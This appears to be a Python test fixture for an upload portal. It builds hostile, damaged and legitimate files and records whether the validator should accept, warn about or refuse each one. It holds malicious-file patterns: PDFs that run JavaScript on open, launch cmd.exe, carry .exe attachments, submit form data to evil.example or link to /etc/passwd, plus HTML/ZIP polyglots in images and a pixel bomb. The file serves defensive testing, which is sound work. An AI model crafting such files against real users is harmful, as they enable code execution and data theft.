"""A corpus of hostile, damaged and legitimate-but-unusual files, each with what the portal must answer.

Built on the fly from real libraries (pikepdf, Pillow, reportlab, gzip, zipfile); nothing is downloaded.
"""

from __future__ import annotations

import gzip
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.support import files as samples


@dataclass(frozen=True)
class Case:
    name: str  # the uploaded file name
    make: Callable[[], bytes]
    refusal: str = ""  # a phrase of the refusal message; empty when the file must be accepted
    warning: str = ""  # for an accepted PDF with active content: a phrase of the upload's warning

    @property
    def accepted(self) -> bool:
        return not self.refusal


def _pdf(change: Callable[[pikepdf.Pdf], None], pages: int = 1) -> bytes:
    pdf = pikepdf.open(io.BytesIO(samples.pdf_bytes("Listing capture", pages=pages)))
    change(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _annotate(pdf: pikepdf.Pdf, annotation: Dictionary) -> None:
    page = pdf.pages[0]
    annotation.Type = Name.Annot
    if "/Rect" not in annotation:
        annotation.Rect = [0, 0, 595, 842]  # the whole page, as a trap link would
    page.obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))


def js_on_open(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('opened')"))


def launch_link(pdf):
    _annotate(pdf, Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"))))


def exe_attachment(pdf):
    pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + bytes(60), filename="setup.exe")


def javascript_name_tree(pdf):
    action = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("this.print()")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), action])))


def page_open_script(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.beep()")))


def submit_form(pdf):
    _annotate(pdf, Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))))


def import_data(pdf):
    _annotate(pdf, Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F=String("data.fdf"))))


def remote_goto(pdf):
    _annotate(pdf, Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("\\\\server\\share\\x.pdf"))))


def file_uri(pdf):
    _annotate(pdf, Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))))


def web_link(pdf):
    _annotate(pdf, Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://www.alibaba.com/"))))


def file_attachment_annotation(pdf):
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ" + bytes(30), filename="invoice.exe")
    _annotate(pdf, Dictionary(Subtype=Name.FileAttachment, FS=spec.obj, Contents=String("invoice")))


def rich_media(pdf):
    _annotate(pdf, Dictionary(Subtype=Name.RichMedia, RichMediaContent=Dictionary()))


def xfa_form(pdf):
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)


def fillable_field(pdf):
    field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), V=String("J. Moreau"))
    field.Rect, field.P = [72, 600, 300, 620], pdf.pages[0].obj
    field = pdf.make_indirect(field)
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([field]))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True)


def _jpeg(size=(800, 600)) -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(buffer, "JPEG", quality=90)
    return buffer.getvalue()


def _png(size=(400, 300)) -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(buffer, "PNG")
    return buffer.getvalue()


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_with_html_after_large_chunk() -> bytes:
    data = _png()
    filler = _png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(200_000)) + bytes(120_000))
    html = _png_chunk(b"tEXt", b"Comment\x00<html><body><script>alert(1)</script></body></html>")
    return data[:33] + filler + html + data[33:]


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, body in entries.items():
            archive.writestr(name, body)
    return buffer.getvalue()


HTML_PAGE = b"<!doctype html><html><head><title>Lamp</title></head><body><script>track()</script></body></html>"


def warc(body: bytes = HTML_PAGE) -> bytes:
    payload = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + body
    return (b"WARC/1.1\r\nWARC-Type: response\r\nWARC-Target-URI: https://www.alibaba.com/product-detail/x.html\r\n"
            b"Content-Type: application/http; msgtype=response\r\nContent-Length: " + str(len(payload)).encode()
            + b"\r\n\r\n" + payload + b"\r\n\r\n")  # fmt: skip


def wacz(inner: bytes) -> bytes:
    return _zip({"datapackage.json": b'{"profile": "data-package", "resources": []}',
                 "archive/data.warc": inner, "pages/pages.jsonl": b'{"format": "json-pages-1.0"}\n'})  # fmt: skip


def broken_cross_reference() -> bytes:
    """A PDF whose cross-reference offset is wrong: qpdf rebuilds it with every page, so it is accepted."""
    return re.sub(rb"startxref\s+\d+", b"startxref\n999999", samples.pdf_bytes("Order", pages=3))


def truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


TEXT_WITH_LATE_HTML = b"Seller chat log\n" + b"a" * (70 * 1024) + b"\n<html><script>alert(1)</script></html>\n"

CORPUS: list[Case] = [
    # PDFs with active content: stored as received, with a warning; bundles leave it out.
    Case("js-on-open.pdf", lambda: _pdf(js_on_open), warning="JavaScript"),
    Case("launch-link.pdf", lambda: _pdf(launch_link), warning="starts a program"),
    Case("attachment.pdf", lambda: _pdf(exe_attachment), warning="an embedded file"),
    Case("js-name-tree.pdf", lambda: _pdf(javascript_name_tree), warning="JavaScript"),
    Case("page-open-script.pdf", lambda: _pdf(page_open_script), warning="JavaScript"),
    Case("submit-form.pdf", lambda: _pdf(submit_form), warning="sends form data"),
    Case("import-data.pdf", lambda: _pdf(import_data), warning="imports data"),
    Case("remote-goto.pdf", lambda: _pdf(remote_goto), warning="opens another file"),
    Case("file-uri.pdf", lambda: _pdf(file_uri), warning="non-web address"),
    Case("file-attachment-annotation.pdf", lambda: _pdf(file_attachment_annotation), warning="an embedded file"),
    Case("rich-media.pdf", lambda: _pdf(rich_media), warning="rich media"),
    Case("xfa.pdf", lambda: _pdf(xfa_form), warning="XFA"),
    Case("fillable.pdf", lambda: _pdf(fillable_field), warning="form fields"),
    # Legitimate files, some unusual: accepted, byte for byte.
    Case("web-link.pdf", lambda: _pdf(web_link)),
    Case("order.pdf", samples.pdf_bytes),
    Case("three-pages.pdf", lambda: samples.pdf_bytes("Order", pages=3)),
    Case("broken-xref.pdf", broken_cross_reference),
    Case("front.jpg", _jpeg),
    Case("label.png", _png),
    Case("photo.webp", lambda: samples.image_bytes("WEBP")),
    Case("chat.txt", lambda: "Seller: 你好, the lamp ships tomorrow.\n".encode() * 5000),
    Case("capture.warc", warc),
    Case("capture.warc.gz", lambda: gzip.compress(warc(), mtime=0)),
    Case("capture.wacz", lambda: wacz(warc())),
    Case("capture-gz.wacz", lambda: wacz(gzip.compress(warc(), mtime=0))),
    Case("unboxing.mp4", samples.mp4_bytes),
    Case("unboxing.mov", samples.mov_bytes),
    # Damaged files: refused at upload, naming the problem.
    Case("cut-in-half.jpg", lambda: truncated(_jpeg()), refusal="damaged or cut short"),
    Case("cut-in-half.png", lambda: truncated(_png()), refusal="damaged or cut short"),
    Case("cut-in-half.pdf", lambda: truncated(samples.pdf_bytes("Order", pages=6)), refusal="damaged"),
    Case("cut-in-half.mp4", samples.truncated_mp4_bytes, refusal="damaged or cut short"),
    Case("no-movie.mp4", lambda: samples.mp4_bytes().replace(b"moov", b"free"), refusal="no movie header"),
    Case("locked.pdf", lambda: samples.encrypted_pdf_bytes(user_password="open"), refusal="password"),
    Case("bomb.png", lambda: samples.png_declaring_size(50_000, 50_000), refusal="pixels"),
    # Markup and polyglots: refused under any name.
    Case("listing.pdf", lambda: HTML_PAGE, refusal="web page or SVG markup"),
    Case("photo.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', refusal="markup"),
    Case("late-html.txt", lambda: TEXT_WITH_LATE_HTML, refusal="web page or SVG markup"),
    Case("late-html.png", png_with_html_after_large_chunk, refusal="web page or SVG markup"),
    Case("html-after-end.png", lambda: _png() + b"<html><script>alert(1)</script></html>", refusal="markup"),
    Case("jar-after-end.jpg", lambda: _jpeg() + _zip({"Main.class": b"\xca\xfe\xba\xbe"}), refusal="appended"),
    Case("zip-after-end.png", lambda: _png() + _zip({"setup.exe": b"MZ"}), refusal="appended"),
    Case("text-chunk.png", lambda: samples.png_with_text_chunk(b"<html><script>x</script></html>"), refusal="markup"),
    # Names and types that lie.
    Case("x.pdf.exe", samples.pdf_bytes, refusal="ends in .exe, but its contents are a PDF document"),
    Case("a" * 240 + ".exe", samples.pdf_bytes, refusal="ends in .exe"),
    Case("app.png", lambda: b"window.location='https://evil.example'", refusal="plain text"),
    Case("tiny.bin", lambda: b"\x8f\x01\xfe", refusal="could not be recognised"),
    Case("latin1-late.txt", lambda: b"Seller notes\n" * 6000 + "Prix: déjà vu\n".encode("latin-1"), refusal="UTF-8"),
    Case("setup.zip", samples.plain_zip_bytes, refusal="could not be recognised"),
]
